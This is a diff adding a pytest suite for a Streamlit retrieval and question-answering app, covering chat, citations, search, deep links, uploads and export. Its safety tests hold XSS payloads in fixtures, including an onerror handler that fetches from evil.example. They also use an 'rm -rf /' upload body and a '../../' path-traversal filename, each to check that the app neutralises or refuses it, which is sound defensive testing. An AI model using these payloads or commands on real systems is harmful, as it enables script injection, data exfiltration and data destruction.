@@ -1,0 +1,373 @@
+"""The Streamlit page, driven by streamlit.testing.v1.AppTest over the tiny corpus.
+
+The app builds its own Engine from RETRIEVAL_* variables; the only thing swapped is the
+model: ``SentenceTransformerEmbedder`` becomes the deterministic FakeEmbedder the index
+was built with. A few tests replace ``Engine.ask`` by a function returning a real
+``Answer`` built from real search results, to reach a state (abstention, rewriting) on
+purpose; the ask and follow-up tests run the real ``Engine.ask``.
+"""
+
+from __future__ import annotations
+
+import re
+from pathlib import Path
+
+import pytest
+import streamlit as st
+from markdown_it import MarkdownIt
+from streamlit.testing.v1 import AppTest
+
+import retrieval.engine
+from retrieval import Engine, FakeEmbedder
+from retrieval.answer import Answer, Citation
+
+ROOT = Path(__file__).resolve().parents[1]
+APP = str(ROOT / "app.py")
+HEADER = re.compile(r"\\#\d+ · ")   # the header line of a search result
+QUOTE = "The port of Chancay opened north of Lima in November 2024."
+
+MALICIOUS = (
+    "# Llama wool prices\n\n"
+    "Llama wool prices rose in Bolivia. <script>window.__xss=1;alert('xss')</script> "
+    "The cooperative sold llama wool to Japan.\n\n"
+    "Buyers paid more for llama wool <img src=x onerror=\"fetch('http://evil.example/i')\"> "
+    "in Bolivia. Click [x](javascript:alert(1)) for llama prices.\n\n"
+    "The llama wool report had ![](http://evil.example/track.png?q=secret) and "
+    "<a href=\"http://evil.example\">a link</a> and www.evil.example too.\n"
+)
+
+
+@pytest.fixture
+def app_engine(fake_engine, monkeypatch):
+    """Point the app at the tiny corpus and its index (built with the FakeEmbedder)."""
+    monkeypatch.setenv("RETRIEVAL_SOURCE_DIR", str(fake_engine.settings.source_dir))
+    monkeypatch.setenv("RETRIEVAL_INDEX_DIR", str(fake_engine.settings.index_dir))
+    monkeypatch.setattr(retrieval.engine, "SentenceTransformerEmbedder",
+                        lambda *args, **kwargs: FakeEmbedder())
+    yield fake_engine
+    st.cache_resource.clear()
+
+
+def run_app(**query: str) -> AppTest:
+    at = AppTest.from_file(APP, default_timeout=60)
+    for key, value in query.items():
+        at.query_params[key] = value
+    return at.run()
+
+
+def assert_clean(at: AppTest) -> None:
+    assert not at.exception, [e.value for e in at.exception]
+
+
+def plain(markdown: str) -> str:
+    """Escaped Markdown back to the text it shows."""
+    return markdown.replace("\\", "").replace("\u2060", "")
+
+
+def errors(node) -> list[str]:
+    return [plain(e.value) for e in node.error]
+
+
+def bodies(node) -> list[str]:
+    return [m.value for m in node.markdown]
+
+
+def cite(engine: Engine, query: str, quote: str, n: int = 1) -> Citation:
+    """A real citation: the passage that holds ``quote``, with its document offsets."""
+    passage = next(p for p in engine.search(query, k=10) if quote in p.text)
+    start = passage.chunk.start + passage.text.index(quote)
+    snap = engine.store.load(engine.embedder)
+    para = next(p for p in snap.paragraphs[passage.doc].values() if p.start <= start < p.end)
+    return Citation(n, passage, para.number, quote, start, start + len(quote))
+
+
+def fake_ask(monkeypatch, make) -> list[dict]:
+    calls: list[dict] = []
+
+    def ask(self, question, history=None, k=None, docs=None, llm=None):
+        calls.append({"question": question, "history": history, "k": k, "docs": docs})
+        return make(self, question)
+
+    monkeypatch.setattr(Engine, "ask", ask, raising=False)
+    return calls
+
+
+# ---------------------------------------------------------------------------- chat
+def test_first_load_shows_status_and_no_error(app_engine):
+    at = run_app()
+    assert_clean(at)
+    assert not at.error
+    status = " ".join(bodies(at.sidebar))
+    assert "4 documents" in status and "4 chunks" in status
+    assert any("Fresh" in s.value for s in at.sidebar.success)
+
+
+def test_ask_shows_cited_answer_and_source_in_context(app_engine):
+    at = run_app()
+    at.chat_input[0].set_value("Which port opened north of Lima?").run()
+    assert_clean(at)
+    assert not errors(at), errors(at)
+    user, assistant = at.chat_message
+    assert "Which port opened north of Lima" in user.markdown[0].value
+    answer = assistant.markdown[0].value
+    assert "**\\[1\\]**" in answer                       # the [1] marker, shown in bold
+    text = " ".join(bodies(assistant))
+    assert "Sources" in text
+    assert "ports\\.txt" in text                          # the cited document
+    highlighted = [b for b in bodies(assistant) if ":orange-background[" in b]
+    assert highlighted, "the supporting sentence is highlighted"
+    context = next(e for e in assistant.expander if e.label == "Open in context")
+    paras = bodies(context)
+    assert any("⟵ cited" in b and ":orange-background[" in b for b in paras)
+    assert any("Ships from Shanghai" in b for b in paras)     # a neighbouring paragraph
+    assert any("?doc=ports.txt&para=" in c.value for c in context.code)
+
+
+def test_follow_up_passes_history_and_shows_rewritten_query(app_engine, monkeypatch):
+    real_ask = Engine.ask
+    seen: list = []
+
+    def spy(self, question, history=None, **kwargs):
+        seen.append(history)
+        return real_ask(self, question, history=history, **kwargs)
+
+    monkeypatch.setattr(Engine, "ask", spy)
+    at = run_app()
+    at.chat_input[0].set_value("Which port opened north of Lima?").run()
+    at.chat_input[0].set_value("How long do ships from Shanghai take to get there?").run()
+    assert_clean(at)
+    assert len(at.chat_message) == 4
+    assert not seen[0]
+    assert [a.question for a in seen[1]] == ["Which port opened north of Lima?"]
+    answer = at.session_state.turns[1]["answer"]
+    captions = [c.value for c in at.chat_message[3].caption]
+    if answer.rewritten:
+        assert any(c.startswith("Follow-up searched as") for c in captions)
+
+
+def test_rewritten_query_and_notice_are_shown(app_engine, monkeypatch):
+    def make(engine, question):
+        c = cite(engine, "Shanghai Chancay days", "Ships from Shanghai reach Chancay in about "
+                 "23 days.")
+        return Answer(question, "About 23 days [1].", False, [c], [c.passage],
+                      query="Chancay port ships from Shanghai days", rewritten=True,
+                      notice="The LLM timed out; showing the extractive answer.")
+
+    fake_ask(monkeypatch, make)
+    at = run_app()
+    at.chat_input[0].set_value("and how long from Shanghai?").run()
+    assert_clean(at)
+    assistant = at.chat_message[1]
+    assert assistant.caption[0].value == (
+        "Follow-up searched as: Chancay port ships from Shanghai days")
+    assert "LLM timed out" in assistant.info[0].value
+
+
+def test_empty_input_is_one_error_line_and_no_turn(app_engine, monkeypatch):
+    calls = fake_ask(monkeypatch, lambda engine, q: pytest.fail("ask must not be called"))
+    at = run_app()
+    at.chat_input[0].set_value("   \n ").run()
+    assert_clean(at)
+    assert errors(at) == ["the query is empty; type a question or some search words"]
+    assert not at.chat_message and not calls
+    assert at.session_state.turns == []
+
+
+def test_no_answer_says_so_and_shows_closest_passages(app_engine, monkeypatch):
+    def make(engine, question):
+        return Answer(question, "The articles do not say.", True, [],
+                      engine.search(question, k=5), query=question)
+
+    fake_ask(monkeypatch, make)
+    at = run_app()
+    at.chat_input[0].set_value("What is the price of coffee in Lima ports?").run()
+    assert_clean(at)
+    assistant = at.chat_message[1]
+    assert assistant.markdown[0].value.startswith("**Not in the articles.**")
+    assert "Closest passages:" in bodies(assistant)
+    text = " ".join(bodies(assistant))
+    assert "Chancay" in text and "robusta" in text          # closest passages are shown
+    assert not [b for b in bodies(assistant) if ":orange-background[" in b]
+
+
+def test_backend_error_is_one_line_and_kept_in_the_conversation(app_engine, monkeypatch):
+    from retrieval import LLMError
+
+    def make(engine, question):
+        raise LLMError("the LLM at http://localhost:9 refused the connection; start it or "
+                       "choose extractive answers")
+
+    fake_ask(monkeypatch, make)
+    at = run_app()
+    at.chat_input[0].set_value("Which port opened?").run()
+    assert_clean(at)
+    assert errors(at) == [
+        "the LLM at http://localhost:9 refused the connection; start it or choose extractive "
+        "answers"]
+    assert len(at.session_state.turns) == 1
+
+
+# ---------------------------------------------------------------------------- search
+def test_search_with_a_document_filter(app_engine):
+    at = run_app()
+    at.sidebar.radio(key="page").set_value("Search").run()
+    at.text_input(key="search_query").set_value("coffee port").run()
+    assert_clean(at)
+    headers = [b for b in bodies(at.main) if HEADER.match(b)]
+    assert {h.split(" · ")[1] for h in headers} >= {"coffee\\.txt", "ports\\.txt"}
+    assert any(":blue-background[coffee]" in b for b in bodies(at.main))
+
+    at.sidebar.multiselect(key="docs").set_value(["ports.txt"]).run()
+    assert_clean(at)
+    headers = [b for b in bodies(at.main) if HEADER.match(b)]
+    assert headers and {h.split(" · ")[1] for h in headers} == {"ports\\.txt"}
+    assert any("in 1 selected documents" in c.value for c in at.main.caption)
+
+
+# ---------------------------------------------------------------------------- deep links
+def test_deep_link_opens_paragraph_in_context_with_highlight(app_engine):
+    c = cite(app_engine, "Chancay Lima", QUOTE)
+    at = run_app(doc="ports.txt", para=str(c.paragraph), hl=f"{c.quote_start}-{c.quote_end}")
+    assert_clean(at)
+    assert not at.error
+    assert at.subheader[0].value == "Linked paragraph"
+    paras = bodies(at.main)
+    cited = [b for b in paras if "⟵ cited" in b]
+    assert len(cited) == 1 and f"¶ {c.paragraph}" in cited[0]
+    assert ":orange-background[The port of Chancay opened north of Lima in November " in cited[0]
+    assert any("Ships from Shanghai" in b for b in paras)
+
+
+@pytest.mark.parametrize(("doc", "para", "expected"), [
+    ("ports.txt", "abc", "a paragraph link needs ?doc=NAME&para=NUMBER"),
+    ("ports.txt", "99", "paragraph 99 of ports.txt is not in the index"),
+    ("nope.txt", "1", "paragraph 1 of nope.txt is not in the index"),
+])
+def test_bad_deep_link_is_one_error_line(app_engine, doc, para, expected):
+    at = run_app(doc=doc, para=para)
+    assert_clean(at)
+    assert len(errors(at)) == 1 and errors(at)[0].startswith(expected), errors(at)
+
+
+# ---------------------------------------------------------------------------- sidebar
+def test_upload_adds_a_file_and_reindexes(app_engine):
+    corpus = app_engine.settings.source_dir
+    at = run_app()
+    text = b"Llamas of Bolivia\n\nLlamas carry salt across the Altiplano of Bolivia.\n"
+    at.sidebar.file_uploader[0].set_value(("../../llamas.txt", text, "text/plain")).run()
+    assert_clean(at)
+    assert (corpus / "llamas.txt").read_bytes() == text
+    assert not (corpus.parent.parent / "llamas.txt").exists()
+    assert any("llamas.txt: added" in plain(s.value) for s in at.sidebar.success)
+    assert "5 documents" in " ".join(bodies(at.sidebar))
+    assert any("Fresh" in s.value for s in at.sidebar.success)
+
+    at.sidebar.file_uploader[0].set_value(("llamas.txt", b"other text\n", "text/plain")).run()
+    assert_clean(at)
+    assert any("already in the corpus with different content" in e
+               for e in errors(at.sidebar))
+    assert (corpus / "llamas.txt").read_bytes() == text
+
+
+def test_upload_of_a_bad_type_is_refused(app_engine):
+    at = run_app()
+    at.sidebar.file_uploader[0].set_value(("run.sh", b"rm -rf /\n", "text/plain")).run()
+    assert_clean(at)
+    assert errors(at.sidebar) == [
+        "run.sh: file type .sh is not accepted; upload .txt, .md, .html, .jsonl files"]
+    assert not (app_engine.settings.source_dir / "run.sh").exists()
+
+
+def test_stale_index_can_be_updated_from_the_sidebar(app_engine):
+    (app_engine.settings.source_dir / "extra.md").write_text("# Extra\n\nSome new text.\n")
+    at = run_app()
+    assert any("Stale: 1 added" in w.value for w in at.sidebar.warning)
+    next(b for b in at.sidebar.button if b.label == "Update index").click().run()
+    assert_clean(at)
+    assert any("Fresh" in s.value for s in at.sidebar.success)
+    assert any("indexed" in plain(s.value) for s in at.sidebar.success)
+
+
+def test_export_holds_questions_answers_and_citations(app_engine, monkeypatch):
+    def make(engine, question):
+        c = cite(engine, "Chancay Lima", QUOTE)
+        return Answer(question, "Chancay [1].", False, [c], [c.passage], query=question)
+
+    fake_ask(monkeypatch, make)
+    at = run_app()
+    assert at.sidebar.download_button[0].proto.disabled
+    at.chat_input[0].set_value("Which port opened north of Lima?").run()
+    assert_clean(at)
+    exported = at.session_state.export_markdown
+    assert "## 1. Which port opened north of Lima?" in exported
+    assert "Chancay \\[1\\]." in exported
+    assert "ports.txt" in exported and f"> {QUOTE}" in exported
+    assert "?doc=ports.txt&para=" in exported
+    assert not at.sidebar.download_button[0].proto.disabled
+
+
+def test_corrupt_index_is_one_error_line(app_engine):
+    manifest = app_engine.store.manifest_path
+    manifest.write_text("{not json")
+    at = run_app()
+    assert_clean(at)
+    assert errors(at) and all("\n" not in e for e in errors(at))
+    assert any("manifest.json is unreadable or malformed" in e for e in errors(at))
+    assert any(b.label == "Rebuild index" for b in at.sidebar.button)
+
+
+# ---------------------------------------------------------------------------- safety
+def _walk(node):
+    yield node
+    children = getattr(node, "children", None)
+    if isinstance(children, dict):
+        for child in children.values():
+            yield from _walk(child)
+
+
+def assert_no_html(at: AppTest) -> list[str]:
+    """No element enables HTML; every Markdown body renders without tags, links or images."""
+    md = MarkdownIt("commonmark", {"html": True}).enable("table")
+    seen = []
+    for node in _walk(at._tree):
+        proto = getattr(node, "proto", None)
+        assert getattr(node, "type", "") not in ("html", "iframe", "components_v1", "bidi")
+        if proto is not None and hasattr(proto, "allow_html"):
+            assert proto.allow_html is False
+        if hasattr(proto, "body") and isinstance(proto.body, str):
+            html = md.render(proto.body)
+            for tag in ("<script", "<img", "<a ", "<iframe"):
+                assert tag not in html, proto.body
+            seen.append(proto.body)
+    return seen
+
+
+def test_malicious_document_renders_as_inert_text(app_engine, monkeypatch):
+    corpus = app_engine.settings.source_dir
+    (corpus / "evil.md").write_text(MALICIOUS)
+    app_engine.update_index()
+
+    def make(engine, question):
+        passages = engine.search("llama wool Bolivia", k=5)
+        evil = next(p for p in passages if p.doc == "evil.md")
+        quote = next(s for s in evil.text.split("\n\n") if "<script>" in s)
+        start = evil.chunk.start + evil.text.index(quote)
+        para = next(p for p in engine.store.load().paragraphs["evil.md"].values()
+                    if p.start <= start < p.end)
+        c = Citation(1, evil, para.number, quote, start, start + len(quote))
+        return Answer(question, "See <script>alert(1)</script> [x](javascript:1) [1].", False,
+                      [c], passages, query=question)
+
+    fake_ask(monkeypatch, make)
+    at = run_app()
+    at.chat_input[0].set_value("What did <img src=x onerror=alert(1)> llama wool cost?").run()
+    assert_clean(at)
+    shown = assert_no_html(at)
+    assert any("\\<script\\>" in b for b in shown)          # shown as text, not dropped
+    assert any("evil\\.md" in b for b in shown)
+
+    at.sidebar.radio(key="page").set_value("Search").run()
+    at.text_input(key="search_query").set_value("llama wool").run()
+    assert_clean(at)
+    shown = assert_no_html(at)
+    assert any("javascript" in b and "\\]\\(" in b for b in shown)
